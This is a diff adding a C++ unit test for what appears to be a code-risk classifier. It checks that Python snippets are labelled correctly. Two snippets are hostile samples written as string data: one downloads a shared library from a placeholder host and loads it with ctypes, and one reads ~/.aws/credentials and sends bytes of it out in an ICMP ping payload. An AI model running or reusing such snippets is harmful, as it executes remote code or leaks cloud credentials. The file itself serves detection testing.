@@ -682,5 +682,23 @@ TEST(CoverageClasses, LoginItemsAndWmiSubscriptionsPersist) {
   for (const auto& c : cases) check(c);
 }
 
+// A shared library runs its code when loaded: one this code downloaded into a
+// file and loaded by ctypes or cffi is the download run. pythonping's payload
+// is sent in ICMP packets.
+TEST(CoverageClasses, DownloadedLibrariesAndPingPayloads) {
+  const Case cases[] = {
+      {"a downloaded .so loaded by ctypes", B,
+       "import ctypes, urllib.request\nurllib.request.urlretrieve('https://example.net/lib.so', '/tmp/lib.so')\nctypes.CDLL('/tmp/lib.so')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"pythonping's payload", B,
+       "import os\nfrom pythonping import ping\nping('198.51.100.9', payload=open(os.path.expanduser('~/.aws/credentials'), 'rb').read()[:32])\n",
+       "EXFILTRATION"},
+      // Neighbours: the C library loaded, a plain ping.
+      {"libc loaded by ctypes", L, "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nprint(libc.time(None))\n"},
+      {"a plain ping", L, "from pythonping import ping\nprint(ping('example.com', count=2))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
